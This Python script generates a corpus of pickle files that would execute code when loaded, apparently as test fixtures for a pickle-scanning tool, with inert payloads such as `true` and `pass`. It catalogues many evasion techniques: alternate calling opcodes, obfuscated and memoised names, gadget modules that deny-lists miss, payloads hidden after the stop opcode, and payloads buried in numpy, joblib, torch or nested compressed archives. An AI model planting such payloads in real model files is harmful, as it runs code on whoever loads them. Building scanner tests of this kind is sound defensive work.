"""hostile.py FOLDER: writes pickles that would run something, a few dozen ways. Nothing here loads one.

Every payload is harmless: `true`, an expression, or a name that is only imported. runs/ holds those whose bytes say
what they do; opaque/ those in a wrapping that has to be opened first.
"""

import bz2
import functools
import gzip
import io
import lzma
import pickle
import struct
import sys
import zipfile
import zlib
from pathlib import Path


class Call:
    """Pickles as a call of `function` with `arguments`."""

    def __init__(self, function, *arguments):
        self.function, self.arguments = function, arguments

    def __reduce__(self):
        return self.function, self.arguments


def text(value):
    """SHORT_BINUNICODE."""
    raw = value.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def named(module, name):
    """PROTO 4, then STACK_GLOBAL of module and name."""
    return b"\x80\x04" + text(module) + text(name) + b"\x93"


def call(module, name, *arguments):
    """One call with text arguments, for names that this Python need not have."""
    return named(module, name) + b"(" + b"".join(map(text, arguments)) + b"tR."


def runs():
    import os
    import subprocess

    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        yield f"system-protocol-{protocol}", pickle.dumps(Call(os.system, "true"), protocol)
        yield f"eval-protocol-{protocol}", pickle.dumps({"weights": [1, 2], "x": Call(eval, "1")}, protocol)
    yield "popen", pickle.dumps(Call(subprocess.Popen, ["true"]))
    yield "exec", pickle.dumps(Call(exec, "pass"))
    yield "compile", pickle.dumps(Call(compile, "pass", "x", "exec"))
    yield "partial", pickle.dumps(functools.partial(os.system, "true"))
    yield "getattr-of-import", pickle.dumps(Call(getattr, Call(__import__, "os"), "system"))

    # The opcodes that call.
    yield "reduce", b"cos\nsystem\n(S'true'\ntR."
    yield "inst", b"(S'true'\nios\nsystem\n."
    yield "obj", b"(cos\nsystem\nS'true'\no."
    yield "newobj", b"\x80\x02csubprocess\nPopen\n]S'true'\na\x85\x81."
    yield "newobj-ex", b"\x80\x04csubprocess\nPopen\n]\x8c\x04truea\x85}\x92."
    yield "build-setstate", b"cargparse\nNamespace\n)R}S'__setstate__'\ncos\nsystem\nsbS'true'\nb."
    yield "append-method", b"cos\nsystem\nS'true'\na."
    yield "extension", b"\x80\x02\x82\x01(S'true'\ntR."
    yield "persistent-id", b"Psystem true\n."

    # Names that are not where a pattern looks for them.
    yield "memoised-names", b"\x80\x04" + text("system") + b"\x94" + text("os") + b"\x940" + b"0h\x01h\x00\x93(" + text("true") + b"tR."
    yield "escaped-names", b"\x80\x04V\\u006f\\u0073\nV\\u0073ystem\n\x93(" + text("true") + b"tR."
    yield "alias-module", b"cposix\nsystem\n(S'true'\ntR."
    yield "python-2-name", b"c__builtin__\neval\n(S'1'\ntR."
    yield "dotted-name", named("os", "path.os.system") + b"(" + text("true") + b"tR."
    yield "dotted-harmless-module", named("collections", "abc.sys.modules") + b"."
    yield "computed-name", (
        b"\x80\x04" + named("builtins", "getattr")[2:] + named("builtins", "__import__")[2:] + b"(" + text("os") + b"tR"
        + text("sys") + b"\x8c\x03tem" + b"0" + b"\x86R."
    )
    yield "joined-name", (
        b"\x80\x04" + text("os") + named("builtins", "getattr")[2:] + b"(" + text("") + text("join") + b"tR(]("
        + text("sys") + text("tem") + b"etR\x93(" + text("true") + b"tR."
    )

    # Results that are thrown away, put in the middle, or follow the end.
    plain = pickle.dumps({"weights": list(range(50))}, 4)
    hostile = b"cos\nsystem\n(S'true'\ntR"
    yield "popped", b"\x80\x04" + hostile + b"0" + plain[2:]
    yield "after-stop", plain + hostile + b"."
    yield "no-stop", hostile
    yield "broken-after", hostile + b"\xff\xff\xff"
    yield "bad-opcode-first-byte-after", b"\x80\x04" + hostile + b"0" + b"\x00"
    yield "deep", b"(" * 2000 + hostile + b"."
    yield "padded", b"\x80\x04" + b"N0" * 50_000 + hostile + b"."
    yield "wrong-frame", b"\x80\x04\x95" + struct.pack("<Q", 3) + hostile + b"."

    # Pickles in pickles.
    inner = hostile + b"."
    yield "loads", pickle.dumps(Call(pickle.loads, inner), 4)
    yield "loads-decoded", b"\x80\x04" + named("pickle", "loads")[2:] + b"(" + named("_codecs", "encode")[2:] + b"(" + text("N.") + text("latin1") + b"tRtR."

    # Ways to the same end that lists of bad names have missed.
    for module, name, *arguments in (
        ("timeit", "timeit", "1"), ("runpy", "_run_code", "pass"), ("pip._internal", "main"), ("pip", "main"),
        ("code", "InteractiveInterpreter.runcode"), ("cProfile", "run", "1"), ("profile", "run", "1"), ("bdb", "Bdb.run"),
        ("trace", "Trace.run"), ("pdb", "run", "1"), ("doctest", "debug_script", "1"), ("idlelib.pyshell", "ModifiedInterpreter.runcode"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start"), ("lib2to3.pgen2.pgen", "ParserGenerator.make_label"),
        ("operator", "methodcaller", "system"), ("operator", "attrgetter", "system"),
        ("importlib", "import_module", "os"), ("pkgutil", "resolve_name", "os:system"), ("pydoc", "locate", "os.system"),
        ("ctypes", "CDLL", "x"), ("_ctypes", "dlopen", "x"), ("imp", "load_source", "x"), ("zipimport", "zipimporter", "x"),
        ("multiprocessing.util", "spawnv_passfds"), ("distutils.file_util", "write_file", "x"), ("logging.config", "fileConfig", "x"),
        ("shutil", "rmtree", "no-such-folder"), ("pathlib", "Path.unlink"), ("io", "open", "x"), ("_io", "FileIO", "x"),
        ("socket", "create_connection"), ("urllib.request", "urlopen", "x"), ("webbrowser", "open", "x"), ("smtplib", "SMTP"),
        ("numpy", "load", "x"), ("numpy.f2py.crackfortran", "getlincoef", "1"), ("numpy.testing._private.utils", "runstring", "1"),
        ("torch", "load", "x"), ("torch.hub", "load", "x"), ("torch.utils.collect_env", "run", "x"), ("joblib", "load", "x"),
        ("sklearn.datasets", "fetch_openml", "x"), ("pandas", "read_pickle", "x"), ("sympy", "sympify", "1"), ("yaml", "unsafe_load", "x"),
        ("types", "CodeType"), ("types", "FunctionType"), ("marshal", "loads", "x"), ("sys", "settrace"), ("gc", "get_objects"),
        ("builtins", "breakpoint"), ("builtins", "input"), ("builtins", "open", "x"), ("nt", "system", "x"), ("commands", "getoutput", "x"),
        ("somebody.elses.module", "Harmless"), ("__main__", "Model"),
    ):
        yield f"gadget-{module}.{name}", call(module, name, *arguments)

    # Names of other formats.
    for suffix in ("txt", "json", "onnx", "safetensors", "npy", "h5", "gguf", "zip"):
        yield f"misnamed.{suffix}", inner
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("readme.txt", "nothing here")
    yield "pickle-before-zip.zip", inner + packed.getvalue()


def carried(out):
    """The same inside files that NumPy, joblib, scikit-learn and torch would load."""
    import os

    import joblib
    import numpy as np
    from sklearn.linear_model import LogisticRegression

    hostile = Call(os.system, "true")
    np.save(out / "object-array.npy", np.array([hostile], dtype=object), allow_pickle=True)
    np.savez(out / "object-array.npz", good=np.zeros(3), bad=np.array([hostile], dtype=object))
    joblib.dump({"a": np.zeros(3000), "b": hostile}, out / "plain.joblib")
    model = LogisticRegression().fit([[0.0], [1.0]], [0, 1])
    model.coef_ = hostile
    (out / "attribute.pkl").write_bytes(pickle.dumps(model))
    joblib.dump(model, out / "attribute.joblib")
    for name, compression in (("stored", zipfile.ZIP_STORED), ("deflated", zipfile.ZIP_DEFLATED)):
        with zipfile.ZipFile(out / f"torch-{name}.pt", "w", compression) as archive:
            archive.writestr("archive/data.pkl", pickle.dumps(hostile, 2))
            archive.writestr("archive/version", "3\n")
            archive.writestr("archive/data/0", b"\0" * 16)


def opaque(out):
    import os

    import joblib

    inner = b"cos\nsystem\n(S'true'\ntR."
    joblib.dump([Call(os.system, "true")], out / "zlib.joblib", compress=3)
    (out / "gzip.pkl.gz").write_bytes(gzip.compress(inner, mtime=0))
    (out / "bzip2.pkl.bz2").write_bytes(bz2.compress(inner))
    (out / "xz.pkl.xz").write_bytes(lzma.compress(inner))
    (out / "zlib.pkl.z").write_bytes(zlib.compress(inner))
    (out / "prefixed.bin").write_bytes(b"\0" * 64 + inner)
    (out / "script.py").write_text("import os\n")
    for name, method in (("bzip2", zipfile.ZIP_BZIP2), ("lzma", zipfile.ZIP_LZMA)):
        with zipfile.ZipFile(out / f"{name}.zip", "w", method) as archive:
            archive.writestr("data.pkl", inner)
    nested = inner
    for depth in range(12):
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w") as archive:
            archive.writestr(f"{depth}.zip" if depth else "data.pkl", nested)
        nested = packed.getvalue()
    (out / "nested.zip").write_bytes(nested)


def main(folder):
    known, wrapped = Path(folder) / "runs", Path(folder) / "opaque"
    known.mkdir(parents=True)
    wrapped.mkdir()
    for name, data in runs():
        (known / (name if "." in name and not name.startswith("gadget") else f"{name}.pkl")).write_bytes(data)
    carried(known)
    opaque(wrapped)


if __name__ == "__main__":
    main(sys.argv[1])
